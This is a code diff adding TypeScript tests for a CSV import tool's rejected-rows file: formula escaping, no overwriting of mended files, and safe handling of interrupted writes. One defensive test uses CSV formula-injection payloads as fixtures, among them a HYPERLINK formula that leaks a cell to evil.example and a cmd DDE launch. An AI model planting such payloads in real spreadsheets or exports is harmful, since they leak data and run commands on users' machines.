@@ -1,4 +1,4 @@
-import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import type { ImportReject } from "@chengyun/contracts";
@@ -107,4 +107,57 @@ test("a mended file of rejects is read by the mapping of its file, whatever that
   const saved = put("saved.csv", Buffer.from(readFileSync(mended, "utf8").replaceAll(",", ";"), "utf16le"));
   writeFileSync(saved, Buffer.concat([Buffer.from([0xff, 0xfe]), readFileSync(saved).subarray(2)]));
   expect(await take(saved, toMendedMapping(own))).toEqual(["lamps/1"]);
+});
+
+test("no cell of a file of rejects is a formula, and each comes back as it was when the mended file is read", async () => {
+  const cells = [
+    `=HYPERLINK("http://evil.example/?"&A1)`,
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1)",
+    "'=kept",
+    "O'Hara",
+  ];
+  const rows = cells.map((cell, n) => `${n},"${cell.replaceAll('"', '""')}",28.1,-112.1`);
+  const { out, lines } = await write(put("live.csv", `code,name,lat,lon\n${rows.join("\n")}\n`), lamps);
+  expect(lines.slice(1).map((line) => /^\d,("?.)/.exec(line)?.[1])).toEqual([`"'`, "'", "'", "'", "'", "O"]);
+  expect(lines.slice(1).every((line) => line.includes(",28.1,-112.1,"))).toBe(true);
+  const mended = put("live.mended.csv", readFileSync(out, "utf8").replaceAll(",-112.1,", ",112.1,"));
+  const names: unknown[] = [];
+  for await (const { rows: read } of (
+    await understand(mended, toMapping(toMendedMapping<object>(lamps), "test"))
+  ).pieces())
+    names.push(...read.map((one) => (one as { row: { name: { zh: string } } }).row.name.zh));
+  expect(names).toEqual(cells);
+});
+
+describe("a file of rejects that somebody has mended", () => {
+  const bad = "code,name,lon,lat\n1,a,28.1,112.1\n";
+  const writeTo = async (path: string, content: string, isSparing: boolean) => {
+    const understanding = await understand(put("spared.csv", content), toMapping(lamps, "test"));
+    return writeRejects(path, rejectedRows(understanding, noRejects()), { isSparing });
+  };
+
+  test("is never written over: the next free name is taken, and no other while nothing changed", async () => {
+    const path = join(folder, "spared.rejects.csv");
+    expect(await writeTo(path, bad, true)).toBe(path);
+    expect(await writeTo(path, bad, true)).toBe(path);
+    const mended = readFileSync(path, "utf8").replace("28.1,112.1", "112.1,28.1");
+    writeFileSync(path, mended);
+    expect(await writeTo(path, bad, true)).toBe(join(folder, "spared.rejects-2.csv"));
+    expect(readFileSync(path, "utf8")).toBe(mended);
+    expect(await writeTo(path, bad, false)).toBe(path);
+    expect(existsSync(`${path}.part`)).toBe(false);
+  });
+
+  test("is as it was when writing the next ends half way", async () => {
+    const path = join(folder, "half.rejects.csv");
+    writeFileSync(path, "mine");
+    async function* torn() {
+      yield { line: 2, values: { code: "1" }, beyond: [], faults: [], columns: ["code"] };
+      throw new Error("killed");
+    }
+    await expect(writeRejects(path, torn())).rejects.toThrow("killed");
+    expect(readFileSync(path, "utf8")).toBe("mine");
+  });
 });
